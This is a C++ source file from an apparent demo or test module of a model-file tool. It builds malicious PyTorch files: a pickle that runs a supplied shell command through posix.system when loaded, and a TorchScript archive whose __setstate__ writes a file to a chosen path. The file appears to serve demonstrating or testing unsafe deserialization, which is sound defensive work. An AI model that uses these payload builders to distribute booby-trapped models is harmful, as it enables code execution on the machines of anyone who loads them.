#include "payload.hpp"

#include "tare/pickle_writer.hpp"
#include "tare/torch_save.hpp"

namespace tare::demo {

using pickle::Op;

Result<std::uint64_t> write_pickle_attack(const std::filesystem::path& path,
                                          const std::string& command) {
  pickle::Writer out;
  out.proto(2);
  if (command.empty()) {
    out.global("collections", "OrderedDict").op(Op::kEmptyTuple);
  } else {
    // os.system pickles under the name of the module that defines it.
    out.global("posix", "system").text(command).op(Op::kTuple1).put();
  }
  out.op(Op::kReduce).put();
  out.op(Op::kStop);
  return torch::save_pickle(path, out.view(), {}, torch::Layout::kTorch2,
                            safetensors::Overwrite::kYes);
}

Result<std::uint64_t> write_torchscript_attack(const std::filesystem::path& path,
                                               const std::string& target) {
  // BUILD on an object of a scripted class calls the class's own __setstate__. Both methods must be
  // there for the loader to use them.
  std::string code =
      "class Model(Module):\n"
      "  __parameters__ = []\n"
      "  __buffers__ = []\n"
      "  training : bool\n"
      "  def __getstate__(self: __torch__.Model) -> int:\n"
      "    return 1\n"
      "  def __setstate__(self: __torch__.Model,\n"
      "    state: int) -> NoneType:\n"
      "    self.training = False\n";
  if (!target.empty()) code += "    _0 = torch.save(torch.ones([1]), \"" + target + "\")\n";
  code += "    return None\n";

  pickle::Writer data;
  data.proto(2);
  data.raw(as_bytes("c__torch__\nModel\n")).op(Op::kEmptyTuple).op(Op::kNewObj);
  data.integer(1).op(Op::kBuild).op(Op::kStop);
  pickle::Writer constants;
  constants.proto(2).op(Op::kEmptyTuple).op(Op::kStop);
  return torch::save_records(path,
                             {{"data.pkl", data.view()},
                              {"code/__torch__.py", as_bytes(code)},
                              {"constants.pkl", constants.view()},
                              {"version", as_bytes("3\n")}},
                             safetensors::Overwrite::kYes);
}

}  // namespace tare::demo
